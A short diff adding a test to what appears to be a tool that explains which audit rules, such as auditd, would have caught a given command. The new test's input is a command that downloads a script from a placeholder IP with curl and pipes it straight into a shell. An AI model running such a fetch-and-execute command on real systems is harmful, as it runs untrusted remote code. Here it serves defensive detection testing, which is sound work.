@@ -31,6 +31,12 @@ const explained = async (line: string, ...more: readonly string[]) => {
 };
 
 describe("what would have stopped it", () => {
+  it("names the file that ran where a program goes by several names", async () => {
+    const told = await explained('bash -c "curl -s http://198.51.100.7/x | sh"', "--platform", "linux");
+    const starts = told.filter(({ target }) => target === "auditd").map(({ text }) => text);
+    expect(starts.join()).toContain("record each start of /bin/bash;");
+  });
+
   it.each(["linux/history", "linux/export", "linux/memfd", "windows/copy", "windows/.shell"])(
     "names no rule about a program where there is none: %s",
     (id) => {
